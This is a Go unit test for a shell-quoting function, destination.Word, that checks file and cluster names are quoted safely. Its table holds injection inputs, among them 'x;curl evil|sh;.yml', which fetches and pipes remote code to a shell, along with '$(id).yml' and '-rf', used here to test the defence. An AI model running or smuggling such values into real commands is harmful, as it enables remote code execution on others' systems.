package destination_test

import (
	"testing"

	"github.com/rekey-app/rekey/app/rotate/destination"
)

// A name that a shell would read as more than a word is quoted.
func TestWord(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"deploy.yml": "deploy.yml", "arn:aws:eks:eu-west-1:1:cluster/shop": "arn:aws:eks:eu-west-1:1:cluster/shop", "a b": "'a b'", "x;curl evil|sh;.yml": "'x;curl evil|sh;.yml'",
		"$(id).yml": "'$(id).yml'", "it's": `'it'\''s'`, "-rf": "'-rf'", "": "''",
	} {
		if got := destination.Word(name); got != want {
			t.Errorf("%q: %s, want %s", name, got, want)
		}
	}
}
